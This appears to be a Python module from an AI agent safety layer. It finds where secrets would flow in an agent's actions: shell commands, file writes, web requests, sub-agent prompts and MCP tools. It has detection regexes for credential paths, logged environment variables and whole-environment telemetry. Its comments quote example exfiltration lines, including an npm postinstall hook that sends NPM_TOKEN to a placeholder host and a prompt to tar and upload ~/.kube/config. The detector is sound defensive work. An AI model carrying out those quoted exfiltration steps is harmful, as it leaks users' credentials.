"""Every secret flow of one analysed action (issue 10 §5): `flows(a)`, which rules in `automode.rules.secrets` judge.

The facts (sources, sinks, owners of credentials) live in `automode.knowledge.flows`; the shell's wiring of them in
`automode.knowledge.flows_shell`. This module routes an action to them by tool: shell commands, written files, web
requests, sub-agent prompts and MCP tools that post.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

from automode import lazyre
from automode.effects import mcp_name
from automode.hosts import is_local
from automode.knowledge import telemetry
from automode.knowledge.flows import (
    KIND_SECRET,
    LOG_CALL,
    Flow,
    Secret,
    _client_lines,
    _committed,
    _host,
    _ships,
    env_secret,
    file_service,
    tables,
    values,
)
from automode.knowledge.flows_shell import _shell_flows
from automode.typing_lite import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from automode.analysis import Analysis

_LAST: list[tuple[Any, list[Flow]]] = [(None, [])]


def flows(a: Analysis) -> list[Flow]:
    last = _LAST[0]
    if last[0] is a:
        return last[1]
    out = list(_flows(a))
    _LAST[0] = (a, out)
    return out


def _flows(a: Analysis) -> Iterator[Flow]:
    from automode.analysis import AGENT_TOOLS, FILE_WRITE_TOOLS, WEB_TOOLS

    tool = a.action.tool
    if a.shell:
        yield from _shell_flows(a)
    elif tool in FILE_WRITE_TOOLS:
        yield from _write_flows(a)
        if a.commands:
            # what a written file runs later (an npm lifecycle script, a Makefile recipe): its flows are the action's
            # (`"postinstall": "node -e \"…get('https://x/?u='+process.env.NPM_TOKEN)\""`, h8-0283)
            yield from _shell_flows(a)
    elif tool in WEB_TOOLS:
        for e in a.effects:
            if e.kind == "network":
                for s in values(e.target):
                    yield Flow(s, "url", _host(e.target))
    elif tool in AGENT_TOOLS:
        for e in a.effects:
            if e.kind == "delegate":
                prompt = e.content or ""
                found = values(prompt)
                publish = bool(found) and tables().publish_words.search(prompt[:20_000]) is not None
                for s in found:
                    yield Flow(
                        s, "delegate-send" if publish else "delegate", "others" if publish else e.target
                    )
                yield from _delegated_sends(e.content or "", a)
        if a.commands:
            yield from _shell_flows(a)  # the commands the prompt spells out (`analysis._delegated_commands`)
    elif tool.startswith("mcp__") or "__" in tool:
        name = mcp_name(tool)
        if tables().mcp_public.search(name) and not tables().mcp_read.search(name):
            try:
                text = json.dumps(dict(a.action.input), default=str)[:50_000]
            except (TypeError, ValueError):
                text = str(a.action.input)[:50_000]
            for s in values(text):
                yield Flow(s, "public", tool)


PROMPT_PATH = lazyre.compile(
    r"(?<![\w/.])((?:~|\$HOME|/home/[\w.-]+|/Users/[\w.-]+|/root)/[\w./-]+|\.env(?:\.[\w-]+)?)\b"
)


PROMPT_URL = lazyre.compile(r"https?://[^\s'\"<>)]+")


def _delegated_sends(prompt: str, a: Analysis) -> Iterator[Flow]:
    """A sub-agent told, in prose, to send credential files somewhere: `tar ~/.kube/config … upload to https://x`."""
    from automode.paths import is_secret_path, resolve

    urls = [u for u in PROMPT_URL.findall(prompt[:20_000]) if not is_local(_host(u))]
    if not urls:
        return
    for m in PROMPT_PATH.finditer(prompt[:20_000]):
        p = resolve(m.group(1), a.cwd, a.ctx.home)
        if is_secret_path(p, a.ctx.home):
            yield Flow(Secret(m.group(1), file_service(p), "file"), "delegate-send", _host(urls[0]))
            return


#: Calls of error-reporting and analytics SDKs that attach data to what they send (Sentry setContext/setExtra(s)/
#: setTag(s)/setUser/configureScope and `sentry_sdk.set_*`, Bugsnag/Rollbar/Honeybadger metadata, PostHog/Segment/
#: Mixpanel/Amplitude events, New Relic custom attributes, LogRocket), given the whole environment (`process.env`,
#: `os.environ`, `ENV.to_h`, `System.getenv()`).
REPORTED_ENV = lazyre.compile(
    r"\b((?:Sentry|sentry_sdk|sentry|scope)\.(?:setContext|setExtras?|setTags?|setUser|set_context|set_extras?|set_tags?|"
    r"set_user|configureScope|configure_scope)|(?:Bugsnag|bugsnag|Rollbar|rollbar|Honeybadger|honeybadger)\.\w+|"
    r"(?:posthog|analytics|mixpanel|amplitude|LogRocket|newrelic)\.\w+)\s*\([^\n]{0,200}?"
    r"(?:\.\.\.\s*process\.env\b(?![.\[])|process\.env\s*[,)}]|dict\(os\.environ\)|\*\*os\.environ|os\.environ\s*[,)]|"
    r"ENV\.to_h|System\.getenv\(\))")  # fmt: skip


#: Logging and printing calls of every language (Go log/slog/zap/logrus/fmt, .NET ILogger `LogInformation`/Console,
#: Elixir Logger/IO, Rust tracing and print macros, Swift print/NSLog/os_log, PHP error_log/echo/Log::, Kotlin/Java
#: loggers, Ruby puts/Rails.logger), whose line is read for an environment variable named like a credential.
LOG_VERB = lazyre.compile(r"\b(?:[Ll]og(?:ger|ging)?|_logger|slog|zap|logrus|Logger|Log::\w+|error_log|var_dump|print_r|echo|NSLog|os_log|"
                          r"Console\.Write(?:Line)?|IO\.(?:puts|inspect|write)|(?:tracing::|log::)?(?:info|warn|error|debug|trace)!|"
                          r"e?println!|e?print!|dbg!|print|puts|printf|fmt\.\w*Print\w*)\b")


def _logged_env(text: str) -> Iterator[Secret]:
    from automode.shell.codeflow import ENV_READ_RE

    low = text.lower()
    if "env" not in low and "$_server" not in low:
        return  # every environment reader is spelled with one of these
    for m in LOG_VERB.finditer(text):
        end = text.find("\n", m.end())
        seg = text[m.end():end if end != -1 else len(text)][:240]
        for r in ENV_READ_RE.finditer(seg):
            name = next((g for g in r.groups() if g), "")
            s = env_secret(name) if name else None
            if s is not None:
                yield s


def _write_flows(a: Analysis) -> Iterator[Flow]:
    for e in a.effects:
        if e.kind != "write" or not e.content:
            continue
        text = e.content
        yield from _client_lines(text)
        if e.pclass in ("project", "protected") or (e.pclass == "secret" and _committed(e, a.root)):
            ships = _ships(e, a.root) and KIND_SECRET.search(text) is None  # a Secret object is where the value belongs
            for s in values(text):
                yield Flow(s, "file", e.target, ships=ships)
            seen: set[str] = set()
            for m in LOG_CALL.finditer(text):
                logged = env_secret(m.group(4))
                if logged is not None:
                    seen.add(logged.what)
                    yield Flow(logged, "log", e.target)
            for logged in _logged_env(text):  # every language's loggers and environment readers
                if logged.what not in seen:
                    seen.add(logged.what)
                    yield Flow(logged, "log", e.target)
            reported = REPORTED_ENV.search(text)
            if reported is not None:
                # the whole environment attached to every crash report or analytics event: to the vendor's servers
                yield Flow(Secret("the whole environment", "", "env"), "public", f"{reported.group(1)} in {e.target}")
            elif (vendor := telemetry.reported_env(text)) is not None:
                # the same in any language and in configuration (`config.add_metadata(:env, ENV.to_h)`, a before-send
                # hook copying `System.getenv()`, OpenTelemetry resource attributes from `os.Environ()`)
                yield Flow(Secret("the whole environment", "", "env"), "public", f"{vendor} configuration in {e.target}")
